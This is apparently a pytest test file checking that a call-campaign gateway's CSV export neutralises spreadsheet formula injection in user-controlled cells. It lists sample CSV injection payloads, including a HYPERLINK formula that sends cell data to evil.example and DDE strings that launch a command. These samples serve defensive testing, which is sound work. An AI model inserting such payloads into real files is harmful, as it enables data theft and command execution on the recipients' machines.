"""The results CSV never hands a spreadsheet a formula (OWASP "CSV Injection"): user-controlled
text (names, dynamic variables, the transcript summary, data collection values and ids) that
starts with = + - @, a tab or a carriage return is neutralised with a leading quote."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest

from gateway import results
from gateway.models import CallAnalysis, CampaignRecipient
from gateway.repository import RecipientResult

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_starting_a_formula_is_quoted_as_text(attack: str) -> None:
    assert results.neutralise(attack) == "'" + attack


@pytest.mark.parametrize("harmless", ["+14155550100", "-12", "-3.5", "42", "Ana", "a=b", "", "'quoted"])
def test_numbers_and_ordinary_text_stay_as_they_are(harmless: str) -> None:
    assert results.neutralise(harmless) == harmless


def test_values_that_are_not_text_stay_as_they_are() -> None:
    assert [results.neutralise(v) for v in (None, -5, 3.5, True)] == [None, -5, 3.5, True]


async def test_every_user_controlled_cell_of_the_export_is_neutralised() -> None:
    recipient = CampaignRecipient(
        campaign_id="batch_1",
        recipient_id="=r0",
        position=0,
        to_number="+14155550100",
        status="completed",
        retry_count=0,
        outcome="booked",
        time_zones=["America/Los_Angeles"],
        name="=cmd|' /C calc'!A0",
        email="@evil.example",
        dynamic_variables={"plan": "+gold+cmd", "note": "fine"},
    )
    analysis = CallAnalysis(
        conversation_id="conv_1",
        call_successful="success",
        transcript_summary="-summary=1+1",
        data_collection_results={"=id": "\t=2+2", "amount": "-7"},
    )
    result = RecipientResult(recipient, analysis, "conv_1", [])
    header = results.csv_header(["=id", "amount"], ["note", "plan"])

    async def pages() -> AsyncIterator[list[RecipientResult]]:
        yield [result]

    text = "".join(
        [chunk async for chunk in results.csv_lines(header, pages(), ["=id", "amount"], ["note", "plan"])]
    )
    head, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(head, row, strict=True))
    assert cells["recipient_id"] == "'=r0"
    assert cells["name"] == "'=cmd|' /C calc'!A0"
    assert cells["email"] == "'@evil.example"
    assert cells["transcript_summary"] == "'-summary=1+1"
    assert cells["data_collection.=id"] == "'\t=2+2"
    assert cells["data_collection.amount"] == "-7"  # a plain number
    assert cells["dynamic_variables.plan"] == "'+gold+cmd"
    assert cells["dynamic_variables.note"] == "fine"
    assert cells["to_number"] == "+14155550100"
